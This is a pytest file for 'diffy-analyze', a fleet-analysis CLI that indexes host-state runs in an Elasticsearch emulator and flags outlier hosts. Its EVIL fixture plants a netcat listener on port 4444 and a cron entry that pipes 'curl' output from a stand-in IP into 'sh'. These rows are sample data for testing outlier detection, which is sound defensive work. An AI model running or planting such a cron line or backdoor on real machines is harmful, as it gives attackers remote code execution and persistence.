"""`diffy-analyze` with Elasticsearch (osmem-server EMULATOR, see tests/es_emulator.py) as destination
(RUN_DIR + --es-url) and as source (--run / --app --latest): same report, honest exit codes."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from es_transport import CompatHeaderNode, FaultPlan, count, fault_node_class
from runbuilder import build_run, fleet

from diffy_analysis.cli import es_options
from diffy_analysis.cli.analyze import analyze
from diffy_analysis.cli.main import run
from diffy_analysis.errors import EXIT_TROUBLE
from diffy_analysis.store.mapping import IndexNames

pytest_plugins = ["es_emulator"]

ROWS = {
    "listening_ports": [
        {"protocol": "6", "address": "0.0.0.0", "port": "22", "name": "sshd", "path": "/usr/sbin/sshd"}
    ],
    "users": [{"username": "root", "uid": "0", "shell": "/bin/bash"}],
    "crontab": [{"command": "/usr/local/bin/backup", "minute": "5", "hour": "2"}],
}
EVIL = {
    "listening_ports": [
        {"protocol": "6", "address": "0.0.0.0", "port": "4444", "name": "nc", "path": "/tmp/nc"}
    ],
    "crontab": [{"command": "curl -s http://203.0.113.9/x | sh", "minute": "*", "hour": "*"}],
}


@pytest.fixture(autouse=True)
def _emulator_transport(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("DIFFY_ES_URL", "DIFFY_ES_API_KEY", "DIFFY_ES_USER", "DIFFY_ES_PASSWORD", "DIFFY_DEBUG"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setattr(es_options, "NODE_CLASS", CompatHeaderNode)


@pytest.fixture
def small_run(tmp_path: Path) -> Path:
    return build_run(tmp_path, fleet(12, ROWS, extra={"web-007": EVIL}), statuses={"web-013": "unreachable"})


def diffy_analyze(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    code = run(analyze, args, prog_name="diffy-analyze")
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_analyze_and_index_a_run_dir(small_run, es_emulator, es_prefix, es_client, capsys):
    args = [str(small_run), "--format", "json", "--es-url", es_emulator.url, "--es-index-prefix", es_prefix]
    code, out, err = diffy_analyze(args, capsys)
    assert code == EXIT_TROUBLE, err
    report = json.loads(out)
    assert [h["host"] for h in report["hosts"] if h["outlier"]] == ["web-007"]
    assert "indexed run 20261129T101500Z-a1b2c3" in err and "12 host(s)" in err and "analysis" in err
    names = IndexNames(es_prefix)
    assert count(es_client, names.findings) == sum(len(h["findings"]) for h in report["hosts"])
    assert count(es_client, names.host_results) == 12
    flagged = es_client.search(index=names.findings, query={"term": {"host.name": "web-007"}}, size=50)
    assert any("4444" in h["_source"]["diffy"]["finding"]["explanation"] for h in flagged["hits"]["hits"])

    # Analysed again (same method and runs): same analysis id, no duplicate documents.
    code, _, _ = diffy_analyze(args, capsys)
    assert code == EXIT_TROUBLE
    assert count(es_client, names.findings) == sum(len(h["findings"]) for h in report["hosts"])
    assert count(es_client, names.analyses) == 1


def test_analyze_and_index_reads_the_run_twice(small_run, es_emulator, es_prefix, monkeypatch, capsys):
    """Analysis, then indexing with the analysis's own fingerprints: two passes, not three."""
    from diffy_analysis.load import Results

    passes = []
    real = Results.iter_hosts

    def counted(self, *args, **kwargs):
        passes.append(1)
        return real(self, *args, **kwargs)

    monkeypatch.setattr(Results, "iter_hosts", counted)
    args = [str(small_run), "--format", "json", "--es-url", es_emulator.url, "--es-index-prefix", es_prefix]
    code, _, err = diffy_analyze(args, capsys)
    assert code == EXIT_TROUBLE, err
    assert len(passes) == 2


def test_stored_run_gives_the_same_report_as_the_directory(indexed_fleet, capsys):
    url = indexed_fleet.settings.url
    code_disk, disk, _ = diffy_analyze([str(indexed_fleet.fleet.run_dir), "--format", "json"], capsys)
    stored_args = [
        "--es-url",
        url,
        "--es-index-prefix",
        "fleet",
        "--run",
        indexed_fleet.run_id,
        "--format",
        "json",
    ]
    code_es, stored, err = diffy_analyze(stored_args, capsys)
    assert code_es == code_disk == EXIT_TROUBLE, err
    assert stored == disk

    latest_args = [
        "--es-url",
        url,
        "--es-index-prefix",
        "fleet",
        "--app",
        "app_x",
        "--latest",
        "--format",
        "json",
    ]
    app = json.loads(disk)["app"]
    latest_args[latest_args.index("app_x")] = app
    code_latest, latest, err = diffy_analyze(latest_args, capsys)
    assert code_latest == EXIT_TROUBLE, err
    assert latest == disk

    code_table, table, _ = diffy_analyze(stored_args[:-2], capsys)
    assert code_table == EXIT_TROUBLE and "outlier" in table.lower()


def test_store_prevalence_over_the_app(indexed_fleet, capsys):
    args = [
        "--es-url",
        indexed_fleet.settings.url,
        "--es-index-prefix",
        "fleet",
        "--run",
        indexed_fleet.run_id,
    ]
    code, out, err = diffy_analyze([*args, "--format", "json", "--es-prevalence", "app"], capsys)
    assert code == EXIT_TROUBLE, err
    report = json.loads(out)
    assert report["settings"]["external_prevalence_hosts"] == 8
    assert {f["hosts_compared"] for h in report["hosts"] for f in h["findings"]} == {8}


def test_usage_errors(small_run, es_emulator, capsys):
    code, _, err = diffy_analyze(["--run", "20261129T101500Z-a1b2c3"], capsys)
    assert code == EXIT_TROUBLE and "need --es-url" in err
    code, _, err = diffy_analyze(["--es-url", es_emulator.url, "--latest"], capsys)
    assert code == EXIT_TROUBLE and "--latest needs --app" in err
    code, _, err = diffy_analyze([str(small_run), "--es-url", es_emulator.url, "--run", "x"], capsys)
    assert code == EXIT_TROUBLE and "not both" in err
    code, _, err = diffy_analyze(["--es-url", es_emulator.url, "--run", "20990101T000000Z-zzzzzz"], capsys)
    assert code == EXIT_TROUBLE and "not found in Elasticsearch" in err
    assert "Traceback" not in err


def test_report_is_shown_but_lost_documents_exit_2(small_run, es_emulator, es_prefix, capsys, monkeypatch):
    monkeypatch.setattr(es_options, "NODE_CLASS", fault_node_class(FaultPlan(item_statuses=[400] * 100)))
    monkeypatch.setenv("DIFFY_ES_URL", es_emulator.url)
    code, out, err = diffy_analyze([str(small_run), "--es-index-prefix", es_prefix], capsys)
    assert code == EXIT_TROUBLE
    assert "web-007" in out  # the responder still gets the analysis
    assert "NOT indexed" in err
